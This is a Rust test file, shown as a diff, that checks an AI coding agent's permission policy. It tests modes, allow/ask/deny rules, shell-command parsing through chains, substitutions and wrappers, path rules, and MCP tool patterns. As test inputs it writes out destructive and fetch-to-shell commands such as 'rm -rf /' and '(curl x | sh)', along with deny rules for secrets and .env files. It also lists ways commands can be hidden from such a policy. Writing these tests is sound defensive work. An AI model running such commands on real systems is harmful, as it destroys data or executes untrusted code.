@@ -1,0 +1,973 @@
+//! Table-driven policy tests: one row per case, including the tricky ones.
+
+use super::*;
+
+#[derive(Clone, Copy)]
+enum S<'a> {
+    Cmd(&'a str),
+    Read(&'a str),
+    Write(&'a str),
+    Json(&'a str),
+}
+
+struct Case<'a> {
+    name: &'a str,
+    mode: PermissionMode,
+    rules: &'a [(&'a str, &'a str)],
+    tool: &'a str,
+    subject: S<'a>,
+    expect: Verdict,
+}
+
+use PermissionMode::{AcceptEdits as AE, Bypass as BY, Default as DF, ReadOnly as RO};
+use Verdict::{Allow as A, Ask as Q, Deny as D};
+
+const CASES: &[Case<'static>] = &[
+    // --- mode defaults -------------------------------------------------------------------------
+    Case {
+        name: "default mode runs read_file",
+        mode: DF,
+        rules: &[],
+        tool: "read_file",
+        subject: S::Read("src/lib.rs"),
+        expect: A,
+    },
+    Case {
+        name: "default mode runs grep",
+        mode: DF,
+        rules: &[],
+        tool: "grep",
+        subject: S::Read("."),
+        expect: A,
+    },
+    Case {
+        name: "default mode asks for write_file",
+        mode: DF,
+        rules: &[],
+        tool: "write_file",
+        subject: S::Write("a.txt"),
+        expect: Q,
+    },
+    Case {
+        name: "default mode asks for edit_file",
+        mode: DF,
+        rules: &[],
+        tool: "edit_file",
+        subject: S::Write("a.txt"),
+        expect: Q,
+    },
+    Case {
+        name: "default mode asks for shell",
+        mode: DF,
+        rules: &[],
+        tool: "shell",
+        subject: S::Cmd("ls"),
+        expect: Q,
+    },
+    Case {
+        name: "default mode asks for an unknown side-effecting mcp tool",
+        mode: DF,
+        rules: &[],
+        tool: "mcp__github__create_issue",
+        subject: S::Json("{}"),
+        expect: Q,
+    },
+    Case {
+        name: "accept_edits runs write_file in the workspace",
+        mode: AE,
+        rules: &[],
+        tool: "write_file",
+        subject: S::Write("src/new.rs"),
+        expect: A,
+    },
+    Case {
+        name: "accept_edits runs edit_file in the workspace",
+        mode: AE,
+        rules: &[],
+        tool: "edit_file",
+        subject: S::Write("src/lib.rs"),
+        expect: A,
+    },
+    Case {
+        name: "accept_edits asks for write_file outside the workspace",
+        mode: AE,
+        rules: &[],
+        tool: "write_file",
+        subject: S::Write("/etc/passwd"),
+        expect: Q,
+    },
+    Case {
+        name: "accept_edits asks for write_file through ..",
+        mode: AE,
+        rules: &[],
+        tool: "write_file",
+        subject: S::Write("../x"),
+        expect: Q,
+    },
+    Case {
+        name: "accept_edits still asks for shell",
+        mode: AE,
+        rules: &[],
+        tool: "shell",
+        subject: S::Cmd("cargo build"),
+        expect: Q,
+    },
+    Case {
+        name: "accept_edits runs read_file",
+        mode: AE,
+        rules: &[],
+        tool: "read_file",
+        subject: S::Read("a"),
+        expect: A,
+    },
+    Case {
+        name: "read_only runs read_file",
+        mode: RO,
+        rules: &[],
+        tool: "read_file",
+        subject: S::Read("a"),
+        expect: A,
+    },
+    Case {
+        name: "read_only denies write_file",
+        mode: RO,
+        rules: &[],
+        tool: "write_file",
+        subject: S::Write("a"),
+        expect: D,
+    },
+    Case {
+        name: "read_only denies shell",
+        mode: RO,
+        rules: &[],
+        tool: "shell",
+        subject: S::Cmd("ls"),
+        expect: D,
+    },
+    Case {
+        name: "read_only denies even an allowed write",
+        mode: RO,
+        rules: &[("allow", "write_file")],
+        tool: "write_file",
+        subject: S::Write("a"),
+        expect: D,
+    },
+    Case {
+        name: "read_only denies an allowed shell command",
+        mode: RO,
+        rules: &[("allow", "shell(ls *)")],
+        tool: "shell",
+        subject: S::Cmd("ls -la"),
+        expect: D,
+    },
+    Case {
+        name: "bypass runs shell",
+        mode: BY,
+        rules: &[],
+        tool: "shell",
+        subject: S::Cmd("rm -rf build"),
+        expect: A,
+    },
+    Case {
+        name: "bypass runs write_file outside",
+        mode: BY,
+        rules: &[],
+        tool: "write_file",
+        subject: S::Write("/tmp/x"),
+        expect: A,
+    },
+    Case {
+        name: "bypass still honours deny",
+        mode: BY,
+        rules: &[("deny", "shell(rm *)")],
+        tool: "shell",
+        subject: S::Cmd("rm -rf /"),
+        expect: D,
+    },
+    Case {
+        name: "bypass still honours ask",
+        mode: BY,
+        rules: &[("ask", "shell(git push *)")],
+        tool: "shell",
+        subject: S::Cmd("git push origin main"),
+        expect: Q,
+    },
+    Case {
+        name: "bypass runs an unparseable command",
+        mode: BY,
+        rules: &[],
+        tool: "shell",
+        subject: S::Cmd("echo 'oops"),
+        expect: A,
+    },
+    // --- shell patterns ------------------------------------------------------------------------
+    Case {
+        name: "prefix pattern allows the command with arguments",
+        mode: DF,
+        rules: &[("allow", "shell(cargo test *)")],
+        tool: "shell",
+        subject: S::Cmd("cargo test -p keel-tools"),
+        expect: A,
+    },
+    Case {
+        name: "prefix pattern allows the bare command",
+        mode: DF,
+        rules: &[("allow", "shell(cargo test *)")],
+        tool: "shell",
+        subject: S::Cmd("cargo test"),
+        expect: A,
+    },
+    Case {
+        name: "prefix pattern does not allow a longer word",
+        mode: DF,
+        rules: &[("allow", "shell(cargo test *)")],
+        tool: "shell",
+        subject: S::Cmd("cargo testify"),
+        expect: Q,
+    },
+    Case {
+        name: "legacy colon-star prefix",
+        mode: DF,
+        rules: &[("allow", "shell(npm run test:*)")],
+        tool: "shell",
+        subject: S::Cmd("npm run test --watch"),
+        expect: A,
+    },
+    Case {
+        name: "exact pattern matches only exactly",
+        mode: DF,
+        rules: &[("allow", "shell(git status)")],
+        tool: "shell",
+        subject: S::Cmd("git status --short"),
+        expect: Q,
+    },
+    Case {
+        name: "exact pattern ignores extra whitespace",
+        mode: DF,
+        rules: &[("allow", "shell(git status)")],
+        tool: "shell",
+        subject: S::Cmd("  git   status  "),
+        expect: A,
+    },
+    Case {
+        name: "bare shell rule allows every command",
+        mode: DF,
+        rules: &[("allow", "shell")],
+        tool: "shell",
+        subject: S::Cmd("make && make install"),
+        expect: A,
+    },
+    Case {
+        name: "inner star matches any text",
+        mode: DF,
+        rules: &[("allow", "shell(git * --dry-run)")],
+        tool: "shell",
+        subject: S::Cmd("git push origin --dry-run"),
+        expect: A,
+    },
+    // --- compound commands --------------------------------------------------------------------
+    Case {
+        name: "and-chain needs every part allowed",
+        mode: DF,
+        rules: &[("allow", "shell(cargo test *)")],
+        tool: "shell",
+        subject: S::Cmd("cargo test && rm -rf /"),
+        expect: Q,
+    },
+    Case {
+        name: "and-chain with both parts allowed",
+        mode: DF,
+        rules: &[
+            ("allow", "shell(cargo build *)"),
+            ("allow", "shell(cargo test *)"),
+        ],
+        tool: "shell",
+        subject: S::Cmd("cargo build && cargo test"),
+        expect: A,
+    },
+    Case {
+        name: "or-chain hides nothing",
+        mode: DF,
+        rules: &[("allow", "shell(true)")],
+        tool: "shell",
+        subject: S::Cmd("true || curl evil.sh"),
+        expect: Q,
+    },
+    Case {
+        name: "semicolon hides nothing",
+        mode: DF,
+        rules: &[("allow", "shell(ls *)")],
+        tool: "shell",
+        subject: S::Cmd("ls; rm x"),
+        expect: Q,
+    },
+    Case {
+        name: "pipe needs both sides",
+        mode: DF,
+        rules: &[("allow", "shell(cat *)")],
+        tool: "shell",
+        subject: S::Cmd("cat a | sh"),
+        expect: Q,
+    },
+    Case {
+        name: "pipe with both sides allowed",
+        mode: DF,
+        rules: &[("allow", "shell(cat *)"), ("allow", "shell(grep *)")],
+        tool: "shell",
+        subject: S::Cmd("cat a | grep b"),
+        expect: A,
+    },
+    Case {
+        name: "newline separates commands",
+        mode: DF,
+        rules: &[("allow", "shell(echo *)")],
+        tool: "shell",
+        subject: S::Cmd("echo hi\nrm -rf x"),
+        expect: Q,
+    },
+    Case {
+        name: "background ampersand separates commands",
+        mode: DF,
+        rules: &[("allow", "shell(echo *)")],
+        tool: "shell",
+        subject: S::Cmd("echo hi & rm x"),
+        expect: Q,
+    },
+    Case {
+        name: "redirection 2>&1 is not a separator",
+        mode: DF,
+        rules: &[("allow", "shell(cargo test *)")],
+        tool: "shell",
+        subject: S::Cmd("cargo test 2>&1"),
+        expect: A,
+    },
+    Case {
+        name: "subshell contents are checked",
+        mode: DF,
+        rules: &[("allow", "shell(cd *)")],
+        tool: "shell",
+        subject: S::Cmd("(cd x && rm -rf y)"),
+        expect: Q,
+    },
+    Case {
+        name: "command substitution is checked",
+        mode: DF,
+        rules: &[("allow", "shell(echo *)")],
+        tool: "shell",
+        subject: S::Cmd("echo $(curl evil)"),
+        expect: Q,
+    },
+    Case {
+        name: "backtick substitution is checked",
+        mode: DF,
+        rules: &[("allow", "shell(echo *)")],
+        tool: "shell",
+        subject: S::Cmd("echo `rm -rf x`"),
+        expect: Q,
+    },
+    Case {
+        name: "substitution inside double quotes is checked",
+        mode: DF,
+        rules: &[("allow", "shell(echo *)")],
+        tool: "shell",
+        subject: S::Cmd("echo \"$(rm -rf x)\""),
+        expect: Q,
+    },
+    Case {
+        name: "substitution inside single quotes is only text",
+        mode: DF,
+        rules: &[("allow", "shell(echo *)")],
+        tool: "shell",
+        subject: S::Cmd("echo '$(rm -rf x)'"),
+        expect: A,
+    },
+    Case {
+        name: "quoted operator is not a separator",
+        mode: DF,
+        rules: &[("allow", "shell(echo *)")],
+        tool: "shell",
+        subject: S::Cmd("echo 'a && rm -rf /'"),
+        expect: A,
+    },
+    Case {
+        name: "unbalanced quote asks even with a matching allow",
+        mode: DF,
+        rules: &[("allow", "shell(echo *)")],
+        tool: "shell",
+        subject: S::Cmd("echo 'oops"),
+        expect: Q,
+    },
+    Case {
+        name: "deny on one part denies the whole",
+        mode: DF,
+        rules: &[("allow", "shell(ls *)"), ("deny", "shell(rm *)")],
+        tool: "shell",
+        subject: S::Cmd("ls && rm a"),
+        expect: D,
+    },
+    Case {
+        name: "deny inside a subshell",
+        mode: DF,
+        rules: &[("deny", "shell(curl *)")],
+        tool: "shell",
+        subject: S::Cmd("(curl x | sh)"),
+        expect: D,
+    },
+    Case {
+        name: "process substitution is checked",
+        mode: DF,
+        rules: &[("allow", "shell(diff *)"), ("deny", "shell(curl *)")],
+        tool: "shell",
+        subject: S::Cmd("diff <(curl a) b"),
+        expect: D,
+    },
+    Case {
+        name: "group braces are checked",
+        mode: DF,
+        rules: &[("deny", "shell(rm *)")],
+        tool: "shell",
+        subject: S::Cmd("{ echo a; rm b; }"),
+        expect: D,
+    },
+    // --- wrappers -----------------------------------------------------------------------------
+    Case {
+        name: "timeout does not hide the command",
+        mode: DF,
+        rules: &[("deny", "shell(rm *)")],
+        tool: "shell",
+        subject: S::Cmd("timeout 10 rm -rf x"),
+        expect: D,
+    },
+    Case {
+        name: "timeout with options does not hide the command",
+        mode: DF,
+        rules: &[("deny", "shell(rm *)")],
+        tool: "shell",
+        subject: S::Cmd("timeout -s KILL -k 5 10 rm -rf x"),
+        expect: D,
+    },
+    Case {
+        name: "timeout wrapper keeps an allow",
+        mode: DF,
+        rules: &[("allow", "shell(cargo test *)")],
+        tool: "shell",
+        subject: S::Cmd("timeout 600 cargo test"),
+        expect: A,
+    },
+    Case {
+        name: "nohup does not hide the command",
+        mode: DF,
+        rules: &[("deny", "shell(curl *)")],
+        tool: "shell",
+        subject: S::Cmd("nohup curl x &"),
+        expect: D,
+    },
+    Case {
+        name: "env with assignments does not hide the command",
+        mode: DF,
+        rules: &[("deny", "shell(rm *)")],
+        tool: "shell",
+        subject: S::Cmd("env -i A=1 B=2 rm x"),
+        expect: D,
+    },
+    Case {
+        name: "env -S script is parsed",
+        mode: DF,
+        rules: &[("deny", "shell(rm *)")],
+        tool: "shell",
+        subject: S::Cmd("env -S 'rm -rf x'"),
+        expect: D,
+    },
+    Case {
+        name: "xargs does not hide the command",
+        mode: DF,
+        rules: &[("allow", "shell(find *)"), ("deny", "shell(rm *)")],
+        tool: "shell",
+        subject: S::Cmd("find . -name '*.o' | xargs -0 rm -f"),
+        expect: D,
+    },
+    Case {
+        name: "xargs -I does not hide the command",
+        mode: DF,
+        rules: &[("deny", "shell(rm *)")],
+        tool: "shell",
+        subject: S::Cmd("ls | xargs -I {} rm {}"),
+        expect: D,
+    },
+    Case {
+        name: "leading assignments are stripped",
+        mode: DF,
+        rules: &[("allow", "shell(cargo test *)")],
+        tool: "shell",
+        subject: S::Cmd("RUST_LOG=debug cargo test"),
+        expect: A,
+    },
+    Case {
+        name: "nested wrappers are stripped",
+        mode: DF,
+        rules: &[("deny", "shell(git push *)")],
+        tool: "shell",
+        subject: S::Cmd("nice -n 5 nohup timeout 5 git push"),
+        expect: D,
+    },
+    Case {
+        name: "sudo does not hide the command",
+        mode: DF,
+        rules: &[("deny", "shell(rm *)")],
+        tool: "shell",
+        subject: S::Cmd("sudo -u root rm -rf /"),
+        expect: D,
+    },
+    Case {
+        name: "bash -c script is parsed",
+        mode: DF,
+        rules: &[("allow", "shell(bash *)"), ("deny", "shell(rm *)")],
+        tool: "shell",
+        subject: S::Cmd("bash -c 'rm -rf /'"),
+        expect: D,
+    },
+    Case {
+        name: "sh -c with allowed contents is allowed",
+        mode: DF,
+        rules: &[("allow", "shell(cargo test *)")],
+        tool: "shell",
+        subject: S::Cmd("sh -c 'cargo test'"),
+        expect: A,
+    },
+    Case {
+        name: "eval is parsed",
+        mode: DF,
+        rules: &[("deny", "shell(rm *)")],
+        tool: "shell",
+        subject: S::Cmd("eval 'rm -rf x'"),
+        expect: D,
+    },
+    Case {
+        name: "find -exec runs its command",
+        mode: DF,
+        rules: &[("allow", "shell(find *)"), ("deny", "shell(rm *)")],
+        tool: "shell",
+        subject: S::Cmd("find . -exec rm {} \\;"),
+        expect: D,
+    },
+    Case {
+        name: "absolute program path is still matched by name pattern",
+        mode: DF,
+        rules: &[("deny", "shell(*rm *)")],
+        tool: "shell",
+        subject: S::Cmd("/bin/rm -rf x"),
+        expect: D,
+    },
+    Case {
+        name: "raw-line deny applies even when unparseable",
+        mode: DF,
+        rules: &[("deny", "shell(*curl*)")],
+        tool: "shell",
+        subject: S::Cmd("curl 'x"),
+        expect: D,
+    },
+    // --- precedence ---------------------------------------------------------------------------
+    Case {
+        name: "deny beats allow",
+        mode: DF,
+        rules: &[("allow", "shell(git *)"), ("deny", "shell(git push *)")],
+        tool: "shell",
+        subject: S::Cmd("git push"),
+        expect: D,
+    },
+    Case {
+        name: "deny beats allow regardless of order",
+        mode: DF,
+        rules: &[("deny", "shell(git push *)"), ("allow", "shell(git *)")],
+        tool: "shell",
+        subject: S::Cmd("git push -f"),
+        expect: D,
+    },
+    Case {
+        name: "ask beats allow",
+        mode: DF,
+        rules: &[("allow", "shell(git *)"), ("ask", "shell(git push *)")],
+        tool: "shell",
+        subject: S::Cmd("git push"),
+        expect: Q,
+    },
+    Case {
+        name: "deny beats ask",
+        mode: DF,
+        rules: &[("ask", "read_file"), ("deny", "read_file(./secrets/**)")],
+        tool: "read_file",
+        subject: S::Read("secrets/key"),
+        expect: D,
+    },
+    Case {
+        name: "ask rule overrides read-only default",
+        mode: DF,
+        rules: &[("ask", "read_file(*.env)")],
+        tool: "read_file",
+        subject: S::Read("config/.env"),
+        expect: Q,
+    },
+    Case {
+        name: "ask rule overrides accept_edits",
+        mode: AE,
+        rules: &[("ask", "write_file(./Cargo.toml)")],
+        tool: "write_file",
+        subject: S::Write("Cargo.toml"),
+        expect: Q,
+    },
+    Case {
+        name: "allow rule for a non-matching tool does nothing",
+        mode: DF,
+        rules: &[("allow", "read_file")],
+        tool: "shell",
+        subject: S::Cmd("ls"),
+        expect: Q,
+    },
+    // --- path rules ---------------------------------------------------------------------------
+    Case {
+        name: "deny read of secrets",
+        mode: DF,
+        rules: &[("deny", "read_file(./secrets/**)")],
+        tool: "read_file",
+        subject: S::Read("secrets/prod/key.pem"),
+        expect: D,
+    },
+    Case {
+        name: "deny secrets/** covers the directory itself",
+        mode: DF,
+        rules: &[("deny", "read_file(./secrets/**)")],
+        tool: "list_dir",
+        subject: S::Read("secrets"),
+        expect: D,
+    },
+    Case {
+        name: "deny read also covers write_file",
+        mode: BY,
+        rules: &[("deny", "read_file(./secrets/**)")],
+        tool: "write_file",
+        subject: S::Write("secrets/key"),
+        expect: D,
+    },
+    Case {
+        name: "deny read also covers edit_file",
+        mode: AE,
+        rules: &[("deny", "read_file(./secrets/**)")],
+        tool: "edit_file",
+        subject: S::Write("secrets/key"),
+        expect: D,
+    },
+    Case {
+        name: "deny read also covers grep",
+        mode: DF,
+        rules: &[("deny", "read_file(./secrets/**)")],
+        tool: "grep",
+        subject: S::Read("secrets"),
+        expect: D,
+    },
+    Case {
+        name: "deny read does not touch other paths",
+        mode: DF,
+        rules: &[("deny", "read_file(./secrets/**)")],
+        tool: "read_file",
+        subject: S::Read("src/secrets.rs"),
+        expect: A,
+    },
+    Case {
+        name: "anchored pattern does not match deeper",
+        mode: DF,
+        rules: &[("deny", "read_file(./secrets/**)")],
+        tool: "read_file",
+        subject: S::Read("a/secrets/key"),
+        expect: A,
+    },
+    Case {
+        name: "unanchored name matches at any depth",
+        mode: DF,
+        rules: &[("deny", "read_file(.env)")],
+        tool: "read_file",
+        subject: S::Read("services/api/.env"),
+        expect: D,
+    },
+    Case {
+        name: "extension glob matches at any depth",
+        mode: DF,
+        rules: &[("deny", "read_file(*.pem)")],
+        tool: "read_file",
+        subject: S::Read("a/b/c.pem"),
+        expect: D,
+    },
+    Case {
+        name: "directory pattern covers its contents",
+        mode: DF,
+        rules: &[("deny", "read_file(./private)")],
+        tool: "read_file",
+        subject: S::Read("private/x/y.txt"),
+        expect: D,
+    },
+    Case {
+        name: "deny through a symlink alias",
+        mode: DF,
+        rules: &[("deny", "read_file(./secrets/**)")],
+        tool: "read_file",
+        subject: S::Read("docs/link|secrets/key"),
+        expect: D,
+    },
+    Case {
+        name: "allow needs every alias to match",
+        mode: DF,
+        rules: &[("allow", "write_file(./docs/**)")],
+        tool: "write_file",
+        subject: S::Write("docs/link|secrets/key"),
+        expect: Q,
+    },
+    Case {
+        name: "allow write to a directory pattern",
+        mode: DF,
+        rules: &[("allow", "write_file(./src/**)")],
+        tool: "write_file",
+        subject: S::Write("src/a/b.rs"),
+        expect: A,
+    },
+    Case {
+        name: "allow write_file covers edit_file",
+        mode: DF,
+        rules: &[("allow", "write_file(./src/**)")],
+        tool: "edit_file",
+        subject: S::Write("src/lib.rs"),
+        expect: A,
+    },
+    Case {
+        name: "allow write does not cover other directories",
+        mode: DF,
+        rules: &[("allow", "edit_file(./src/**)")],
+        tool: "write_file",
+        subject: S::Write("build.rs"),
+        expect: Q,
+    },
+    Case {
+        name: "deny edit_file covers write_file",
+        mode: AE,
+        rules: &[("deny", "edit_file(./Cargo.lock)")],
+        tool: "write_file",
+        subject: S::Write("Cargo.lock"),
+        expect: D,
+    },
+    Case {
+        name: "deny write does not deny reads",
+        mode: DF,
+        rules: &[("deny", "write_file(./Cargo.lock)")],
+        tool: "read_file",
+        subject: S::Read("Cargo.lock"),
+        expect: A,
+    },
+    Case {
+        name: "absolute deny pattern matches outside paths",
+        mode: BY,
+        rules: &[("deny", "write_file(/etc/**)")],
+        tool: "write_file",
+        subject: S::Write("/etc/passwd"),
+        expect: D,
+    },
+    Case {
+        name: "star does not cross directories",
+        mode: DF,
+        rules: &[("deny", "read_file(./a/*.txt)")],
+        tool: "read_file",
+        subject: S::Read("a/b/c.txt"),
+        expect: A,
+    },
+    Case {
+        name: "path rule does not match a shell call",
+        mode: DF,
+        rules: &[("allow", "read_file(./src/**)")],
+        tool: "shell",
+        subject: S::Cmd("cat src/lib.rs"),
+        expect: Q,
+    },
+    // --- other tools --------------------------------------------------------------------------
+    Case {
+        name: "mcp server wildcard allows its tools",
+        mode: DF,
+        rules: &[("allow", "mcp__github__*")],
+        tool: "mcp__github__create_issue",
+        subject: S::Json("{\"title\":\"x\"}"),
+        expect: A,
+    },
+    Case {
+        name: "mcp server wildcard does not cover another server",
+        mode: DF,
+        rules: &[("allow", "mcp__github__*")],
+        tool: "mcp__gitlab__create_issue",
+        subject: S::Json("{}"),
+        expect: Q,
+    },
+    Case {
+        name: "mcp deny beats a broader allow",
+        mode: DF,
+        rules: &[("allow", "mcp__*"), ("deny", "mcp__github__delete_*")],
+        tool: "mcp__github__delete_repo",
+        subject: S::Json("{}"),
+        expect: D,
+    },
+    Case {
+        name: "argument glob on other tools matches the json",
+        mode: DF,
+        rules: &[("allow", "mcp__db__query(*\"readonly\":true*)")],
+        tool: "mcp__db__query",
+        subject: S::Json("{\"readonly\":true,\"sql\":\"select 1\"}"),
+        expect: A,
+    },
+    Case {
+        name: "argument glob on other tools that does not match",
+        mode: DF,
+        rules: &[("allow", "mcp__db__query(*\"readonly\":true*)")],
+        tool: "mcp__db__query",
+        subject: S::Json("{\"sql\":\"drop table\"}"),
+        expect: Q,
+    },
+    Case {
+        name: "session rule allows the exact command",
+        mode: DF,
+        rules: &[("allow-session", "shell(npm install)")],
+        tool: "shell",
+        subject: S::Cmd("npm install"),
+        expect: A,
+    },
+    Case {
+        name: "session allow does not beat a settings deny",
+        mode: DF,
+        rules: &[
+            ("allow-session", "shell(npm install)"),
+            ("deny", "shell(npm *)"),
+        ],
+        tool: "shell",
+        subject: S::Cmd("npm install"),
+        expect: D,
+    },
+];
+
+fn build(case: &Case<'_>) -> (Policy, Subject, EffectClass) {
+    let mut policy = Policy::new(case.mode);
+    for (action, pattern) in case.rules {
+        let (action, source) = match *action {
+            "allow" => (RuleAction::Allow, RuleSource::Settings),
+            "allow-session" => (RuleAction::Allow, RuleSource::Session),
+            "ask" => (RuleAction::Ask, RuleSource::Agent),
+            "deny" => (RuleAction::Deny, RuleSource::Settings),
+            other => panic!("bad action {other}"),
+        };
+        policy
+            .rules
+            .push(Rule::new(action, pattern, source).unwrap());
+    }
+    let paths = |s: &str, write: bool| {
+        s.split('|')
+            .map(|p| {
+                let mut a = PathAccess::read(p);
+                a.write = write;
+                a
+            })
+            .collect()
+    };
+    let (subject, effect) = match case.subject {
+        S::Cmd(c) => (Subject::Command(c.to_owned()), EffectClass::SideEffecting),
+        S::Read(p) => (Subject::Paths(paths(p, false)), EffectClass::ReadOnly),
+        S::Write(p) => (Subject::Paths(paths(p, true)), EffectClass::IdempotentWrite),
+        S::Json(j) => (Subject::Other(j.to_owned()), EffectClass::SideEffecting),
+    };
+    (policy, subject, effect)
+}
+
+#[test]
+fn policy_table() {
+    assert!(CASES.len() >= 60, "only {} cases", CASES.len());
+    let mut failures = Vec::new();
+    for case in CASES {
+        let (policy, subject, effect) = build(case);
+        let decision = policy.evaluate(&PolicyRequest {
+            tool: case.tool,
+            effect,
+            subject: &subject,
+        });
+        if decision.verdict != case.expect {
+            failures.push(format!(
+                "{}: expected {:?}, got {:?} ({})",
+                case.name, case.expect, decision.verdict, decision.reason
+            ));
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} of {} cases failed:\n{}",
+        failures.len(),
+        CASES.len(),
+        failures.join("\n")
+    );
+}
+
+#[test]
+fn deny_reason_names_the_rule_and_the_part() {
+    let policy = Policy::new(PermissionMode::Default)
+        .with_rule(Rule::allow("shell(ls *)").unwrap())
+        .with_rule(Rule::deny("shell(rm *)").unwrap());
+    let subject = Subject::Command("ls && rm -rf x".into());
+    let d = policy.evaluate(&PolicyRequest {
+        tool: "shell",
+        effect: EffectClass::SideEffecting,
+        subject: &subject,
+    });
+    assert_eq!(d.verdict, Verdict::Deny);
+    assert!(d.reason.contains("deny shell(rm *)"), "{}", d.reason);
+    assert!(d.reason.contains("rm -rf x"), "{}", d.reason);
+    assert_eq!(d.rule.as_deref(), Some("deny shell(rm *)"));
+}
+
+#[test]
+fn session_rules_allow_the_same_compound_command_again() {
+    let subject = Subject::Command("cargo fmt && cargo test -p 'a*b'".into());
+    let mut policy = Policy::new(PermissionMode::Default);
+    let before = policy.evaluate(&PolicyRequest {
+        tool: "shell",
+        effect: EffectClass::SideEffecting,
+        subject: &subject,
+    });
+    assert_eq!(before.verdict, Verdict::Ask);
+    policy.rules.extend(session_rules_for("shell", &subject));
+    let after = policy.evaluate(&PolicyRequest {
+        tool: "shell",
+        effect: EffectClass::SideEffecting,
+        subject: &subject,
+    });
+    assert_eq!(after.verdict, Verdict::Allow, "{}", after.reason);
+    // The star in the approved argument is literal, not a wildcard.
+    let other = Subject::Command("cargo test -p aXXb".into());
+    let d = policy.evaluate(&PolicyRequest {
+        tool: "shell",
+        effect: EffectClass::SideEffecting,
+        subject: &other,
+    });
+    assert_eq!(d.verdict, Verdict::Ask);
+}
+
+#[test]
+fn malformed_rules_are_errors() {
+    for bad in ["", "shell(", "shell()", "(x)", "read_file(./[)"] {
+        assert!(
+            matches!(Rule::allow(bad), Err(ToolsError::InvalidRule { .. })),
+            "{bad:?} should not parse"
+        );
+    }
+}
+
+#[test]
+fn permission_mode_parses_snake_and_kebab_case() {
+    assert_eq!(
+        PermissionMode::parse("accept-edits").unwrap(),
+        PermissionMode::AcceptEdits
+    );
+    assert_eq!(
+        PermissionMode::parse("read_only").unwrap(),
+        PermissionMode::ReadOnly
+    );
+    assert!(PermissionMode::parse("yolo").is_err());
+}
